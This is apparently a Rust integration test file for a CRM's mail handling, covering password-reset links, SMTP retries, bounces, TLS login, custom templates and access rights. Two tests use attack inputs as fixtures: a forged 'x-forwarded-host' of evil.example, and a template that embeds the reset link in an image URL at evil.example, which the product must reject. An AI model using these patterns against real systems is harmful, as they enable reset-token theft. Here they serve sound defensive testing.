//! Mails: to a real mail server, through its bad days, and the texts that an organization gives them.

use std::time::Duration;

use reqwest::StatusCode;
use runtime::config::SmtpTls;
use serde_json::{Value, json};
use tests::{
    app::{Client, PASSWORD, TestApp},
    mail,
    smtp::{Certificate, Closed, Fault, Moment, Received, SmtpServer, SmtpServerOptions},
    world::World,
};

/// How long anything may take.
const PATIENCE: Duration = Duration::from_mins(1);
const NEW_PASSWORD: &str = "another quiet staple";

/// The product with a mail server.
async fn world(port: u16) -> World {
    World::start_with(|config| {
        config.mail.smtp_host = Some("127.0.0.1".into());
        config.mail.smtp_port = Some(port);
        config.mail.smtp_tls = SmtpTls::None;
        config.mail.from = Some("crm@example.org".into());
        config.mail.bounce_address = Some("bounce@example.org".into());
        config.api.public_url = "https://crm.example.org".into();
    })
    .await
}

/// The product whose mail server has taken the mail that a registration sends.
async fn settled() -> (SmtpServer, World) {
    let server = SmtpServer::start();
    let world = world(server.port()).await;
    taken(&server, 1).await;
    (server, world)
}

async fn taken(server: &SmtpServer, count: usize) -> Vec<Received> {
    let waited = tokio::time::timeout(PATIENCE, server.wait_for(count)).await;
    waited.unwrap_or_else(|_| panic!("{count} mails did not come, only {}", server.received().len()))
}

/// Asks for a link as somebody who sends a wrong `Host`.
async fn forget_password(app: &TestApp) {
    let request = app.anybody().request(reqwest::Method::POST, "/api/auth/forgot-password").header("x-forwarded-host", "evil.example");
    let _ = app.anybody().send(request.json(&json!({ "email": app.admin.email }))).await.expect(StatusCode::ACCEPTED);
}

/// The mails of a kind that the API shows, once `fits` says that they are as wanted.
async fn mails(app: &TestApp, kind: &str, fits: impl Fn(&[Value]) -> bool) -> Vec<Value> {
    let deadline = tokio::time::Instant::now() + PATIENCE;
    loop {
        let page: Value = app.get(&format!("/api/mails?kind={kind}")).await.expect(StatusCode::OK).json();
        let mails = page["data"].as_array().expect("a list").clone();
        if fits(&mails) {
            return mails;
        }
        assert!(tokio::time::Instant::now() < deadline, "mails stay {mails:?}");
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
}

fn all_in(state: &'static str) -> impl Fn(&[Value]) -> bool {
    move |mails| !mails.is_empty() && mails.iter().all(|mail| mail["state"] == state)
}

/// Jobs of mails that are not done.
async fn unfinished(app: &TestApp) -> i64 {
    sqlx::query_scalar("select count(*) from jobs where kind = 'mail.send' and state <> 'done'")
        .fetch_one(&mut app.database.owner().await)
        .await
        .expect("the jobs can be read")
}

async fn login(client: &Client, email: &str, password: &str) -> StatusCode {
    client.post_json("/api/auth/login", json!({ "email": email, "password": password })).await.status
}

#[tokio::test]
async fn a_forgotten_password_is_reset_by_the_link_of_the_mail_and_ends_all_logins() {
    let (server, world) = settled().await;
    let app = &world.app;
    forget_password(app).await;
    let received = taken(&server, 2).await;
    let (shown, mail) = (&mails(app, "passwordReset", all_in("sent")).await[0], &received[1].mail);
    let id = shown["id"].as_str().expect("an id");
    assert_eq!((mail.to.as_str(), mail.from.as_str()), (app.admin.email.as_str(), "crm@example.org"));
    assert_eq!((mail.from_name.as_str(), mail.subject.as_str()), ("Analytical Engines", "Choose a new password for Analytical Engines"));
    assert_eq!(
        (received[1].sender.clone(), mail.message_id.clone()),
        (format!("bounce+{id}@example.org"), format!("{id}@crm.example.org"))
    );
    assert_eq!(received[1].recipients, [&*app.admin.email]);
    assert!(mail.link().as_str().starts_with("https://crm.example.org/reset-password?token="), "{}", mail.link());
    assert!(mail.html.contains(mail.link().as_str()), "{}", mail.html);
    assert!(!shown.to_string().contains(&mail.token()), "a list of mails shows no link: {shown}");

    let body = json!({ "token": mail.token(), "newPassword": NEW_PASSWORD });
    let _ = app.anybody().post_json("/api/auth/reset-password", body.clone()).await.expect(StatusCode::NO_CONTENT);
    app.get("/api/auth/me").await.problem(StatusCode::UNAUTHORIZED, "session-ended");
    app.anybody().post_cookie("/api/auth/refresh", &app.admin.cookie).await.problem(StatusCode::UNAUTHORIZED, "session-ended");
    assert_eq!(login(app.anybody(), &app.admin.email, PASSWORD).await, StatusCode::UNAUTHORIZED);
    assert_eq!(login(app.anybody(), &app.admin.email, NEW_PASSWORD).await, StatusCode::OK);
    assert_eq!(app.anybody().post_json("/api/auth/reset-password", body).await.status, StatusCode::BAD_REQUEST, "a link is good once");
    assert_eq!(taken(&server, 3).await[2].mail.subject, "Your password at Analytical Engines was changed");
}

#[tokio::test]
async fn a_mail_server_that_is_down_for_a_while_gets_each_mail_once() {
    let closed = Closed::reserve();
    let world = world(closed.port()).await;
    forget_password(&world.app).await;
    let tried = |mails: &[Value]| !mails.is_empty() && mails.iter().all(|mail| mail["state"] == "queued" && mail["error"].is_string());
    let waiting = mails(&world.app, "passwordReset", tried).await;
    assert!(waiting[0]["error"].as_str().expect("a reason").contains("connecting"), "{waiting:?}");
    assert_eq!(login(world.app.anybody(), &world.app.admin.email, PASSWORD).await, StatusCode::OK, "signing in does not need mail");

    let server = closed.open(SmtpServerOptions::default());
    mails(&world.app, "passwordReset", all_in("sent")).await;
    mails(&world.app, "emailVerification", all_in("sent")).await;
    let mut kinds: Vec<String> = server.received().into_iter().map(|received| received.mail.subject).collect();
    kinds.sort();
    assert_eq!(kinds, ["Choose a new password for Analytical Engines", "Confirm your e-mail address for Analytical Engines"]);
}

#[tokio::test]
async fn a_mail_that_is_put_off_arrives_later_and_once() {
    let (server, world) = settled().await;
    server.fail(Moment::Recipient, Fault::Say("450 4.2.0 greylisted"));
    server.fail(Moment::Text, Fault::Say("451 4.3.0 later"));
    forget_password(&world.app).await;
    taken(&server, 2).await;
    let sent = mails(&world.app, "passwordReset", all_in("sent")).await;
    assert_eq!((sent[0]["error"].clone(), server.faults_left(), server.received().len()), (Value::Null, 0, 2));
}

#[tokio::test]
async fn a_mail_that_is_refused_is_recorded_as_bounced_and_not_tried_again() {
    let (server, world) = settled().await;
    server.fail(Moment::Recipient, Fault::Say("550 5.1.1 no such user"));
    forget_password(&world.app).await;
    let bounced = mails(&world.app, "passwordReset", all_in("bounced")).await;
    assert_eq!((&bounced[0]["error"], &bounced[0]["sentAt"]), (&json!("550 5.1.1 no such user"), &Value::Null));
    assert!(bounced[0]["bouncedAt"].is_string());
    let shown: Value = world.app.get(&format!("/api/mails/{}", bounced[0]["id"].as_str().unwrap())).await.expect(StatusCode::OK).json();
    assert_eq!(shown, bounced[0]);
    let deadline = tokio::time::Instant::now() + PATIENCE;
    while unfinished(&world.app).await > 0 {
        assert!(tokio::time::Instant::now() < deadline, "the job of a refused mail is over");
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    assert_eq!(server.received().len(), 1);
}

#[tokio::test]
async fn a_mail_of_which_nobody_knows_whether_it_arrived_is_sent_again_as_the_same_mail() {
    let (server, world) = settled().await;
    server.fail(Moment::Text, Fault::TakeAndHangUp);
    forget_password(&world.app).await;
    let received = taken(&server, 3).await;
    let [first, second] = [&received[1].mail, &received[2].mail];
    assert_eq!((&first.message_id, first.link(), &first.text), (&second.message_id, second.link(), &second.text));
    mails(&world.app, "passwordReset", all_in("sent")).await;
    let body = json!({ "token": second.token(), "newPassword": NEW_PASSWORD });
    let _ = world.app.anybody().post_json("/api/auth/reset-password", body).await.expect(StatusCode::NO_CONTENT);
}

#[tokio::test]
async fn a_password_for_the_mail_server_travels_encrypted_only() {
    let certificate = Certificate::new();
    let folder = tempfile::tempdir().expect("a folder");
    let trusted = folder.path().join("ca.pem");
    std::fs::write(&trusted, &certificate.pem).expect("written");
    let login = Some(("crm".to_owned(), "quiet staple".to_owned()));
    runtime::tls::install();
    let closed = Closed::reserve();
    let port = closed.port();
    let server = closed.open(SmtpServerOptions { login, certificate: Some(certificate) });
    let world = World::start_with(|config| {
        config.mail.smtp_host = Some("localhost".into());
        config.mail.smtp_port = Some(port);
        config.mail.smtp_ca_file = Some(trusted);
        config.mail.smtp_user = Some("crm".into());
        config.mail.smtp_password = Some("quiet staple".into());
    })
    .await;
    let received = taken(&server, 1).await;
    assert_eq!((received[0].encrypted, received[0].user.as_deref()), (true, Some("crm")));
    assert_eq!(received[0].mail.to, world.app.admin.email);
}

#[tokio::test]
async fn a_certificate_that_nobody_vouches_for_is_not_trusted() {
    runtime::tls::install();
    let closed = Closed::reserve();
    let port = closed.port();
    let server = closed.open(SmtpServerOptions { login: None, certificate: Some(Certificate::new()) });
    let world = World::start_with(|config| {
        config.mail.smtp_host = Some("localhost".into());
        config.mail.smtp_port = Some(port);
    })
    .await;
    let tried = |mails: &[Value]| !mails.is_empty() && mails[0]["error"].is_string();
    let waiting = mails(&world.app, "emailVerification", tried).await;
    assert_eq!((waiting[0]["state"].as_str(), server.received().len()), (Some("queued"), 0), "{waiting:?}");
}

#[tokio::test]
async fn without_a_mail_server_mails_are_files() {
    let world = World::start().await;
    mails(&world.app, "emailVerification", all_in("sent")).await;
    let files = mail::in_folder(&world.app.state.config.mail.dir);
    assert_eq!(files.len(), 1);
    let body = json!({ "token": files[0].token() });
    let _ = world.app.anybody().post_json("/api/auth/verify-email", body).await.expect(StatusCode::NO_CONTENT);
}

#[tokio::test]
async fn an_organization_gives_its_mails_texts_of_its_own() {
    let (server, world) = settled().await;
    let app = &world.app;
    let path = "/api/mail-templates/passwordReset";
    let built_in: Value = app.get(path).await.expect(StatusCode::OK).json();
    assert_eq!((&built_in["builtIn"], &built_in["updatedAt"]), (&json!(true), &Value::Null));
    let own = json!({ "subject": "Neues Passwort für {{ recipient }}", "html": "<p><a href=\"{{ link }}\">Weiter</a></p>", "text": "Weiter:\n{{ link }}\n" });
    let written: Value = app.put_json(path, own.clone()).await.expect(StatusCode::OK).json();
    assert_eq!((&written["builtIn"], &written["html"]), (&json!(false), &own["html"]));
    let listed: Value = app.get("/api/mail-templates").await.expect(StatusCode::OK).json();
    assert_eq!(listed["data"].as_array().unwrap().iter().filter(|template| template["builtIn"] == false).count(), 1);

    forget_password(app).await;
    assert_eq!(taken(&server, 2).await[1].mail.subject, "Neues Passwort für Ada");
    let queued: Value = app.post(&format!("{path}/test")).await.expect(StatusCode::ACCEPTED).json();
    let tested = &taken(&server, 3).await[2].mail;
    assert_eq!((tested.subject.as_str(), &tested.to), ("[Test] Neues Passwort für Ada", &app.admin.email));
    assert_eq!(tested.token(), "example");
    assert_eq!(tested.message_id.split('@').next(), queued["mailId"].as_str());

    for _ in 0..2 {
        let _ = app.delete(path).await.expect(StatusCode::NO_CONTENT);
    }
    let again: Value = app.get(path).await.expect(StatusCode::OK).json();
    assert_eq!(again, built_in);
    let acts = app.acts_of(app.admin.organization).await;
    let of_mail: Vec<&str> = acts.iter().map(String::as_str).filter(|act| act.starts_with("mail")).collect();
    assert_eq!(of_mail, ["mailTemplates.update", "mails.sendTest", "mailTemplates.delete"]);
}

#[tokio::test]
async fn a_text_that_cannot_be_sent_is_named_with_its_line_and_not_kept() {
    let app = TestApp::start().await;
    let path = "/api/mail-templates/invitation";
    let broken = json!({ "html": "<p>\n{{ link }}\n{{ nobody }}</p>" });
    let problem = app.post_json(&format!("{path}/preview"), broken).await.problem(StatusCode::BAD_REQUEST, "invalid-input");
    assert_eq!((&problem["errors"][0]["field"], &problem["errors"][0]["code"]), (&json!("html"), &json!("broken-template")));
    assert!(problem["errors"][0]["message"].as_str().unwrap().starts_with("line 3: `nobody` is not known"), "{problem}");
    let leaking = json!({ "subject": "x", "html": "<img src=\"https://evil.example/?{{ link }}\">", "text": "{{ link }}" });
    app.put_json(path, leaking).await.field_problem("html", "broken-template");
    let without_link = json!({ "subject": "x", "html": "<p>Come in</p>", "text": "{{ link }}" });
    app.put_json(path, without_link).await.field_problem("html", "broken-template");
    assert_eq!(app.get(path).await.json::<Value>()["builtIn"], true);

    let shown: Value = app.post(&format!("{path}/preview")).await.expect(StatusCode::OK).json();
    assert_eq!(shown["subject"], "Your invitation to Analytical Engines");
    assert!(shown["html"].as_str().unwrap().contains("/accept-invitation?token=example"), "{shown}");
    app.get("/api/mail-templates/nonsense").await.problem(StatusCode::BAD_REQUEST, "malformed-path");
}

#[tokio::test]
async fn mails_are_managed_by_those_who_may_and_seen_by_their_organization_only() {
    let app = TestApp::start().await;
    let page: Value = app.get("/api/mails?state=queued").await.expect(StatusCode::OK).json();
    let path = format!("/api/mails/{}", page["data"][0]["id"].as_str().expect("a mail"));
    assert_eq!(page["data"][0]["to"], app.admin.email);
    let agent = app.colleague("agent").await;
    for path in [path.as_str(), "/api/mails", "/api/mail-templates"] {
        agent.client.get(path).await.problem(StatusCode::FORBIDDEN, "right-missing");
    }
    let stranger = app.stranger().await;
    stranger.client.get(&path).await.problem(StatusCode::NOT_FOUND, "mail-not-found");
}

#[tokio::test]
async fn a_notification_that_a_mail_server_pipes_in_marks_the_mail() {
    let world = World::start().await;
    let sent = mails(&world.app, "emailVerification", all_in("sent")).await;
    let id = sent[0]["id"].as_str().expect("an id").to_owned();
    let notification = |id: &str| {
        format!(
            "From: MAILER-DAEMON@mx.example.com\r\nTo: bounce+{id}@example.org\r\nSubject: Undelivered\r\nMIME-Version: 1.0\r\n\
             Content-Type: multipart/report; report-type=delivery-status; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nSorry.\r\n\
             --b\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.example.com\r\n\r\n\
             Final-Recipient: rfc822; ada@example.com\r\nAction: failed\r\nStatus: 5.1.1\r\nDiagnostic-Code: smtp; 550 no such user\r\n\r\n--b--\r\n"
        )
    };
    let app = &world.app;
    let said = api::bounces::record(&app.state.config, &*app.clock, notification(&id).as_bytes()).await.expect("recorded");
    assert_eq!(said, format!("mail {id} came back for good"));
    let bounced = mails(app, "emailVerification", all_in("bounced")).await;
    assert_eq!(bounced[0]["error"], "5.1.1 550 no such user");

    let unknown = notification("019cab5e-8a00-7000-8000-000000000001");
    let error = api::bounces::record(&app.state.config, &*app.clock, unknown.as_bytes()).await.expect_err("unknown");
    assert!(error.to_string().contains("does not exist") && !api::bounces::is_temporary(&error), "{error:#}");
    let mut nowhere = app.state.config.clone();
    nowhere.database.url = "postgres://crm_app@127.0.0.1:9/nothing".into();
    let error = api::bounces::record(&nowhere, &*app.clock, unknown.as_bytes()).await.expect_err("no database");
    assert!(api::bounces::is_temporary(&error), "{error:#}");
}
